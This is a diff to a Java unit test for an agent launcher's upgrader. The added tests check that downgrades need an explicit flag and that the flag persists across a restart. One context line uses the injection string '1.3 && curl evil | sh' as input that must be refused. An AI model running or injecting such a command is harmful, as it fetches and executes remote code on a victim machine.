@@ -138,6 +138,38 @@ class LauncherUpgraderTest {
         assertThat(f.server.requests()).isEmpty();
     }
 
+    String upgrade(LauncherUpgrader upgrader, AgentUpdate order) {
+        Outcome outcome = new Outcome();
+        upgrader.upgrade(order, outcome);
+        return outcome.await();
+    }
+
+    @Test
+    void olderVersionIsRefusedWithoutTheDowngradeFlagAndInstalledWithIt() {
+        f.installed("1.1");
+        f.publish("1.1", Tarball.release().bytes());
+        f.publish("1.10", Tarball.release().bytes());
+
+        assertThat(upgrade(upgrader("1.2"), "1.1")).isEqualTo("failed: refused: release 1.1 is older than the running"
+                + " release 1.2, and the order does not say it is a downgrade (\"downgrade\": true)");
+        assertThat(f.server.requests()).as("nothing fetched").isEmpty();
+        assertThat(f.currentTarget()).isEqualTo("releases/1.2");
+
+        assertThat(upgrade(upgrader("1.2"), new AgentUpdate("1.1", null, true))).isEqualTo("finished");
+        assertThat(f.currentTarget()).isEqualTo("releases/1.1");
+    }
+
+    @Test
+    void downgradeFlagOfAnOrderRecordedBeforeTheAgentStoppedIsKept() {
+        f.publish("1.1", Tarball.release().bytes());
+        upgrader("1.2").orderReceived(new AgentUpdate("1.1", null, true));
+
+        LauncherUpgrader afterReboot = upgrader("1.2");
+        assertThat(afterReboot.pendingOrder()).contains(new AgentUpdate("1.1", null, true));
+        assertThat(afterReboot.carryOutPendingUpgrade()).isTrue();
+        assertThat(f.currentTarget()).isEqualTo("releases/1.1");
+    }
+
     @Test
     void versionThatIsNotAReleaseNameIsRefused() {
         assertThat(upgrade(upgrader("1.2"), "1.3 && curl evil | sh"))
